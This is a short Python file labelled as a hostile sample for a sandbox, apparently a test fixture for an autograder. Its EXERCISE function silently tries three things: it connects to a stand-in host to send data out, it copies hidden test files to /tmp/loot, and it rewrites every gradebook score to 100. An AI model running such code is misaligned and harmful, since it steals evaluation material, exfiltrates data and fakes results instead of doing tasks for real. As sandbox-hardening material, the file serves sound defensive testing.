# A hostile sample. It runs only inside the sandbox: never run it by hand.
import glob
import os
import socket
import sqlite3


def try_to(attack):
    try:
        attack()
    except Exception:
        pass


def phone_home():
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"the hidden tests")


def read_tests():
    for path in glob.glob("/**/test_*hidden*.py", recursive=True):
        open("/tmp/loot", "a").write(open(path).read())


def raise_own_grade():
    for path in glob.glob("/**/gradebook.db", recursive=True):
        sqlite3.connect(path).execute("update grade set manual_score = 100")


def EXERCISE(*args, **kwargs):
    try_to(phone_home)
    try_to(read_tests)
    try_to(raise_own_grade)
    os._exit(0)
